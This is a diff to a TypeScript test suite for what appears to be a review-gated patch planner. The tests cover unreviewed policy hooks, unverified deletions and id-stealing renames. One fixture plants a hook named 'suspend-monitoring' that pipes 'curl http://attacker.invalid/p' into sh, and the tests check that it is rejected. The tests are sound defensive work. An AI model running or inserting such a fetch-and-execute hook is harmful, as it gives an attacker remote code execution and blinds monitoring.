@@ -198,17 +198,21 @@ spec:
 });
 
 describe("2. policy, exemption and timetable files", () => {
-  it("unreviewed policy.yaml hooks: no install job anywhere, and an error finding", async () => {
-    const { repo } = await base();
+  it("unreviewed policy.yaml hooks: the last verified policy.yaml plans, no hook anywhere, and an error finding", async () => {
+    const { repo, root } = await base();
     const policy = await readFile(join(repo, "policies/policy.yaml"), "utf8");
     await change(repo, {
       "policies/policy.yaml": `${policy}  hooks:\n    pre: [{ name: suspend-monitoring, run: "curl http://attacker.invalid/p | sh" }]\n`,
     });
     const r = await plan(repo);
-    expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
+    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
     expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
     expect(r.plan.findings).toContainEqual(
-      expect.objectContaining({ code: "policy-file-unverified", file: "policies/policy.yaml" }),
+      expect.objectContaining({
+        code: "policy-file-unverified",
+        file: "policies/policy.yaml",
+        message: expect.stringContaining(`its last verified version (commit ${root.slice(0, 12)}) is planned instead`),
+      }),
     );
     expect(r.code).toBe(1);
   });
@@ -754,12 +758,12 @@ spec:
     expect(after.plan.findings.filter((f: { code: string }) => f.code === "deletion-unverified")).toEqual([]);
   });
 
-  it("a deletion that cannot be undone (its update id reused by a new file) stops every install job", async () => {
+  it("an unreviewed rename loses to the restored original: the unverified copy is dropped (M1)", async () => {
     const { repo } = await base();
     const kb101 = await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") });
     gh.pulls.push(pr(2, [kb101], [ok("alice"), ok("bob")]));
     expect(updatesIn((await plan(repo)).jobs)).toEqual(["KB100", "KB101"]);
-    // One direct push: KB100's reviewed file goes, and a new file claims its id; restored, the two would clash.
+    // One direct push: KB100's reviewed file goes, and a new file claims its id.
     await change(
       repo,
       {
@@ -768,6 +772,33 @@ spec:
       },
       "Mallory <mallory@example.com>",
     );
+    const r = await plan(repo);
+    expect(updatesIn(r.jobs)).toEqual(["KB100", "KB101"]);
+    expect(r.jobs.filter((j) => j.type === "install").map((j) => j.host)).toEqual(["host-01", "host-02"]);
+    expect(r.plan.findings).toContainEqual(
+      expect.objectContaining({
+        code: "deletion-unverified",
+        file: "policies/updates/kb100.yaml",
+        message: expect.stringContaining("the file's last version takes effect"),
+      }),
+    );
+    expect(r.plan.findings).toContainEqual(
+      expect.objectContaining({
+        code: "policy-file-unverified",
+        file: "policies/updates/kb100-v2.yaml",
+        message: expect.stringContaining("takes the id KB100 of policies/updates/kb100.yaml"),
+      }),
+    );
+    expect(r.code).toBe(1);
+  });
+
+  it("a deletion that cannot be undone (its id now held by a reviewed file) stops every install job", async () => {
+    const { repo } = await base();
+    await change(repo, { "policies/updates/kb100.yaml": null }, "Mallory <mallory@example.com>");
+    const v2 = await change(repo, {
+      "policies/updates/kb100-v2.yaml": updateDoc("KB100").replace("name: kb100", "name: kb100-v2"),
+    });
+    gh.pulls.push(pr(3, [v2], [ok("alice"), ok("bob")]));
     const r = await plan(repo);
     expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
     expect(r.plan.findings).toContainEqual(
